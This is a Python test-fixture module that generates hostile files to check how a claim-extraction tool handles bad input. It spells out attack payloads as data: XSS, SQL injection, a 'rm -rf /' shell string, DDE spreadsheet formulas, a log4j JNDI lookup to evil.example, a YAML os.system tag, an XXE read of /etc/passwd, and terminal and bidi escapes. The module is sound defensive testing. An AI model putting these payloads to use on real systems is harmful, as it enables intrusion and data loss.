"""The hostile inputs: files that try to crash the program, to hang it, to alter the terminal, or to pass for markup.

Each is a name, a file name and its bytes. A good neighbour is read in the same run, and its claim must not be lost.
"""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Iterator
from typing import NamedTuple

CLAIM = (
    "TULA, July 21, 2025. Seven drones were shot down over the Tula region overnight, Governor Dmitry Milyaev said.\n"
)
CLAIM_RU = (
    "21 июля 2025 года. Губернатор Тульской области Дмитрий Миляев сообщил, что ночью над регионом сбиты семь БПЛА.\n"
)


class Hostile(NamedTuple):
    """One input. `reads` tells whether it must be read (None: either way will do)."""

    name: str
    file: str
    data: bytes
    reads: bool | None = True


ESCAPES = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[1;1H",
    "title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "c1": "\x9b31m\x9d0;x\x9c\x90q\x9c",
    "alternate-screen": "\x1b[?1049h",
    "answerback": "\x1b[c\x1b[6n\x05",
    "backspaces": "7\x08\x08nine",
    "carriage": "Seven\rNine",
    "bell": "\x07" * 40,
    "every-c0": "".join(map(chr, range(32))),
    "every-c1": "".join(map(chr, range(0x7F, 0xA0))),
    "shift-out": "\x0e\x0f",
    "nul": "\0",
    "del": "\x7f",
}
DECEIT = {
    "rlo": "\u202e7 nevele\u202c",
    "isolates": "\u2066seven\u2069 \u2067\u2069 \u2068\u2069",
    "marks": "\u200e\u200f\u061c",
    "zero-width-in-number": "Se\u200bven and 1\u200b9 and 1\u20600",
    "zero-width-joiner": "dro\u200dnes",
    "bom-inside": "\ufeffSeven\ufeff",
    "soft-hyphens": "dro\u00adnes sev\u00aden",
    "homoglyphs": "Sеvеn drоnеs оvеr Kаlugа",
    "homoglyph-digits": "１９ drones, ٧ drones, 七 drones, ⅶ drones, ⑦ drones",
    "combining": "Z" + "\u0334\u0337" * 400 + " drones",
    "tags": "drones\U000e0041\U000e0042\U000e007f",
    "variation": "7\ufe0f\u20e3 drones",
    "superscript": "7² drones and 10⁵ drones",
    "line-separators": "Seven\u2028drones\u2029were\x85shot",
    "nbsp": "7\u00a0drones over\u202fthe\u2009Tula\u00a0region",
    "non-characters": "\ufffe\uffff\U0010ffff",
    "private": "\ue000\uf8ff",
    "emoji": "7️⃣ 🛩️ 👨‍👩‍👧‍👦 drones",
}
MARKUP = {
    "rich": "[red]seven[/red] [b]drones[/] [/b] [link=http://evil.example]x[/link] [video]",
    "rich-broken": "[/][/][[[bold]]] [",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "html-attribute": "\"><svg onload=alert(1)> ' onmouseover='x",
    "html-comment": "<!-- --> <![CDATA[ ]]> &lt; &#x1b; &nbsp;",
    "markdown": "# x\n| a | b |\n|---|---|\n[a](javascript:x) ![b](http://evil.example/x) ```\n**b**",
    "formula": '=HYPERLINK("http://evil.example";"x")',
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-plus": "+7+cmd|' /C calc'!A0",
    "formula-minus": "-7",
    "formula-at": "@SUM(7)",
    "workflow": "::error file=x::boo",
    "workflow-lines": "\n::set-output name=x::y\n::add-mask::7\n::stop-commands::t\n  ::group::x\n",
    "workflow-old": "##[error]x ##[add-path]y",
    "workflow-cr": "\r::error::x\r\n::warning::y",
    "format-string": "%s %n %(x)s {0} {x} ${x} $(x) `x` %d%%",
    "sql": "'; DROP TABLE claims; --",
    "path": "../../../../etc/passwd",
    "url": "javascript:alert(1) file:///etc/passwd http://evil.example www.evil.example",
    "template": "{{7*7}} {% x %} <%= x %> #{x}",
    "shell": "; rm -rf / & | > x `id` $(id)",
    "log4j": "${jndi:ldap://evil.example/x}",
}
LIES = {
    "huge-number": "9" * 400 + " drones were shot down over the Tula region.",
    "huge-number-in-groups": "1 " + "000 " * 2000 + "drones",
    "negative": "-7 drones were shot down over the Tula region.",
    "decimal": "7.5 drones and 1,000,000,000,000,000 drones",
    "million-words": "million " * 3000 + "drones were shot down",
    "many-words": "one hundred and " * 2000 + "seven drones were shot down",
    "ranges": "from 1 to 2 to 3 to 4 " * 500,
    "odd-dates": "On 99.99.2025, 00.00.2025, 31.02.2025 and July 45, 2025, at 25:99, 7 drones were shot down.",
    "odd-clock": "Between 99:99 and -1:77, from 24:61 to 00:00:00:00, 7 drones were shot down over the Tula region.",
    "impossible-window": "From 15:00 to 12:20 GMT to 11:00 UTC to 3 p.m. a.m. 7 drones were shot down.",
    "no-words": "7 " * 3000,
    "names-only": "Тульская Калужская Брянская " * 800,
    "governors-only": "Governor Dmitry Milyaev " * 800,
    "quotes": "«“‘\"'" * 3000,
    "brackets": "([{<" * 4000,
    "commas": "," * 9000,
    "hyphens": "a-" * 5000,
    "dashes": "– " * 5000,
    "full-stops": ". " * 5000,
    "capitals": "A" * 9000,
    "one-word": "б" * 200_000,
    "line-ends": "\n" * 60_000,
    "spaces": " " * 200_000 + "7 drones",
    "tabs": "\t" * 60_000,
    "each": "two each over " + ", ".join(["Tula"] * 3000) + " were shot down",
    "including": "9 drones, including 8, including " * 800 + "1 were shot down",
    "of-which": "из них 5, " * 3000,
    "list": "\n".join(f"– {n} – над территорией Тульской области," for n in range(1500)),
    "unfinished-sentence": "Seven drones were shot down over the Tula region and " * 400,
    "digits-and-letters": "7a8b9c" * 5000,
    "urls": "https://t.me/x/7?drones=19 " * 800,
    "apostrophes": "д'" * 5000,
    "mixed-scripts": "дronеs Tулa " * 1500,
    "surname-chain": "Ivanov-Petrov-" * 1500,
}


def _text(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _wrapped(name: str, text: str) -> Iterator[Hostile]:
    """A text alone, around a claim, and inside one, in English and in Russian."""
    yield Hostile(f"{name}/alone", "a.txt", _text(text + "\n"), None)
    reads = None if name == "escape/every-c0" else True  # so many controls that it may pass for a program
    yield Hostile(f"{name}/around", "a.txt", _text(f"{text}\n{CLAIM}{text}\n"), reads)
    inside = CLAIM_RU.replace("ночью", f"ночью {text}").replace("Миляев", text)
    yield Hostile(f"{name}/inside", "a.txt", _text(inside), reads)


def _yaml() -> Iterator[Hostile]:
    levels = (f"{chr(98 + i)}: &{chr(98 + i)} [{f'*{chr(97 + i)},' * 9}]" for i in range(22))
    blocks = {
        "tag": "date: !!python/object/apply:os.system ['exit 7']",
        "tag-module": "source: !!python/module:os",
        "tag-custom": "source: !x y",
        "alias": "a: &a x\nsource: *a",
        "bomb": "a: &a [x,x]\n" + "\n".join(levels),
        "merge": "a: &a {x: y}\nb:\n  <<: *a",
        "deep": "source: " + "[" * 9000,
        "deep-mapping": "\n".join(" " * n + "a:" for n in range(900)),
        "flow": "source: {" * 3000,
        "unclosed": "source: 'x",
        "tabs": "\tsource: x",
        "binary": "source: !!binary aGVsbG8=",
        "set": "source: !!set {a, b}",
        "timestamp": "date: 0000-00-00",
        "octal": "date: 0o17777777777777777777777",
        "infinite": "date: .inf",
        "long-key": "x" * 5000 + ": y",
        "anchor-only": "source: &" + "a" * 3000 + " x",
        "directive": "%YAML 9.9\n--- x",
        "document": "source: x\n--- \nsource: y",
        "escapes": 'source: "\\x1b[31m\\u202e\\0"',
        "control": "source: a\x1b[31mb",
        "duplicate": "source: x\nsource: y",
        "null-keys": "~: ~\n? \n: ",
        "colon": "source: a: b: c",
        "spaces": "source: x" + " " * 60_000 + "#",
    }
    for name, block in blocks.items():
        yield Hostile(f"front-matter/{name}", "a.md", _text(f"---\n{block}\n---\n{CLAIM}"), None)
    yield Hostile("front-matter/unclosed-fence", "a.md", _text("---\nsource: x\n" + CLAIM * 5))
    yield Hostile("front-matter/huge", "a.md", _text("---\n" + "x: y\n" * 60_000 + "---\n" + CLAIM), None)


def _encodings() -> Iterator[Hostile]:
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1251", "koi8-r"):
        yield Hostile(f"encoding/{encoding}", "a.txt", CLAIM_RU.encode(encoding))
    russian = CLAIM_RU * 4
    yield Hostile("encoding/mixed", "a.txt", russian.encode() + CLAIM_RU.encode("cp1251"), None)
    yield Hostile("encoding/cut", "a.txt", russian.encode()[:-5])
    yield Hostile("encoding/cut-utf16", "a.txt", russian.encode("utf-16")[:-1])
    yield Hostile("encoding/wrong-mark", "a.txt", b"\xff\xfe" + russian.encode(), None)
    yield Hostile("encoding/two-marks", "a.txt", b"\xef\xbb\xbf" * 2 + russian.encode())
    yield Hostile("encoding/surrogates", "a.txt", ("\ud800" + russian + "\udfff").encode("utf-8", "surrogatepass"))
    yield Hostile("encoding/surrogates-16", "a.txt", ("\ud800" + russian).encode("utf-16", "surrogatepass"))
    yield Hostile("encoding/overlong", "a.txt", russian.encode() + b"\xc0\xaf\xe0\x80\xaf")
    yield Hostile("encoding/invalid-bytes", "a.txt", b"\xff\xfe\xfd" + CLAIM.encode() + b"\x80\x81", None)
    yield Hostile("encoding/stray-nul", "a.txt", russian.encode() + b"\0" + CLAIM.encode())
    yield Hostile("encoding/shift-jis", "a.txt", "今日は良い天気ですね。".encode("shift-jis"), False)
    yield Hostile("encoding/utf-7", "a.txt", CLAIM_RU.encode("utf-7"))
    yield Hostile("encoding/double", "a.txt", CLAIM_RU.encode().decode("latin-1").encode())
    yield Hostile("encoding/crlf", "a.txt", CLAIM_RU.replace("\n", "\r\n").encode())
    yield Hostile("encoding/cr", "a.txt", CLAIM_RU.replace("\n", "\r").encode())


def _binaries() -> Iterator[Hostile]:
    for name, data in (
        ("nuls", bytes(4000)),
        ("every-byte", bytes(range(256)) * 30),
        ("random", random.Random(7).randbytes(9000)),
        ("gzip", gzip.compress(CLAIM.encode() * 50, mtime=0)),
        ("png", b"\x89PNG\r\n\x1a\n" + random.Random(8).randbytes(3000)),
        ("elf", b"\x7fELF\x02\x01\x01" + bytes(9) + random.Random(9).randbytes(3000)),
        ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random.Random(10).randbytes(3000)),
        ("high-bytes", bytes(range(128, 256)) * 50),
        ("one-nul", b"\0"),
        ("one-high", b"\xff"),
    ):
        yield Hostile(f"binary/{name}", "a.txt", data, False)
    yield Hostile("binary/empty", "a.txt", b"")
    yield Hostile("binary/one-letter", "a.txt", b"7")


def _exports() -> Iterator[Hostile]:
    message = {"id": 1, "type": "message", "date": "2025-07-21T08:00:00", "text": CLAIM}
    for name, value in {
        "escapes-in-channel": {"name": "\x1b[31m\u202ex\n::error::y", "messages": [message]},
        "formula-in-channel": {"name": "=1+1", "messages": [message]},
        "surrogates": {"name": "\ud800", "messages": [{**message, "text": "\udfff" + CLAIM}]},
        "odd-types": {"name": 7, "messages": [{**message, "id": [], "date": {}, "text": [[[]], 7, None, CLAIM]}]},
        "odd-date": {"name": "x", "messages": [{**message, "date": "9999-99-99T99:99:99"}]},
        "huge-id": {"name": "x", "messages": [{**message, "id": 10**40}]},
        "escapes-in-id": {"name": "x", "messages": [{**message, "id": "\x1b[31m"}]},
        "nested-text": {"name": "x", "messages": [{**message, "text": [{"text": {"text": "x"}}, CLAIM]}]},
        "repeated": {"name": "x", "messages": [message] * 300},
    }.items():
        yield Hostile(f"export/{name}", "result.json", json.dumps(value).encode(), None)
    good = json.dumps({"name": "x", "messages": [message]})
    for name, text in {
        "nan": good.replace('"id": 1', '"id": NaN'),
        "deep": '{"messages": ' + "[" * 200_000,
        "deep-objects": '{"messages": [' + '{"a":' * 200_000,
        "cut": good[:-30],
        "trailing": good + " x",
        "comma": good.replace("}]", "},]"),
        "duplicate-keys": '{"name": "a", "name": "b", "messages": [], "messages": [' + json.dumps(message) + "]}",
        "huge-number": '{"messages": [' + "9" * 50_000 + "]}",
        "unterminated": '{"messages": [{"text": "' + "x" * 300_000,
        "not-json": CLAIM,
        "array": "[" + good + "]",
        "empty": "",
        "control-in-string": good.replace("TULA", "TU\x1b\x00LA"),
    }.items():
        yield Hostile(f"export/{name}", "result.json", text.encode(), None)


def _pages() -> Iterator[Hostile]:
    body = f"<html><head><title>{{0}}</title></head><body><article><h1>{{0}}</h1><p>{CLAIM * 3}</p></article></body>"
    for name, text in {
        "escapes": "\x1b[31m&#x1b;[31m&#155;",
        "script": "<script>document.write('19 drones')</script>",
        "entities": "&bomb;" * 500 + "<!DOCTYPE x [<!ENTITY bomb 'x'>]>",
        "external-entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "unclosed": "<div>" * 3000,
        "attributes": "<p " + "a='b' " * 5000 + ">x</p>",
        "comments": "<!--" * 3000,
        "bidi": "\u202e\u2066x",
    }.items():
        yield Hostile(f"page/{name}", "a.html", body.format(text).encode(), None)
    yield Hostile("page/binary", "a.html", bytes(3000), False)
    yield Hostile("page/empty", "a.html", b"", False)
    yield Hostile("page/charset", "a.html", b"<meta charset='x\x1b[31m'>" + body.format("x").encode(), None)


def _names() -> Iterator[Hostile]:
    for name, file in {
        "command": "::error::x.txt",
        "command-property": "a,line=7::b%0A.txt",
        "newline": "a\n::error::b.txt",
        "escape": "a\x1b[31mb.txt",
        "bidi": "a\u202etxt.exe.txt",
        "formula": "=1+1.txt",
        "formula-at": "@x.txt",
        "option": "--format=json.txt",
        "dash": "-.txt",
        "rich": "[red]a[bold].txt",
        "html": "<img src=x onerror=alert(1)>.txt",
        "markdown": "[a](b)|c|`d`.txt",
        "quotes": "a'\"b.txt",
        "spaces": "  a  .txt",
        "long": "x" * 240 + ".txt",
        "date-like": "9999-99-99 2025-02-30 99.99.2025.txt",
        "hash": "a#17.txt",
        "percent": "%s%n{0}$(id).txt",
        "emoji": "🛩️.txt",
        "combining": "e" + "\u0301" * 60 + ".txt",
    }.items():
        yield Hostile(f"file-name/{name}", file, CLAIM.encode())


def inputs() -> list[Hostile]:
    """All of them."""
    found: list[Hostile] = []
    for group, texts in (("escape", ESCAPES), ("deceit", DECEIT), ("markup", MARKUP)):
        for name, text in texts.items():
            found += _wrapped(f"{group}/{name}", text)
    for name, text in LIES.items():
        found.append(Hostile(f"lie/{name}", "a.txt", _text(text), None))
        found.append(Hostile(f"lie/{name}/with-claim", "a.txt", _text(f"{CLAIM}\n{text}\n\n{CLAIM_RU}"), None))
    for group_of in (_yaml, _encodings, _binaries, _exports, _pages, _names):
        found += group_of()
    return found
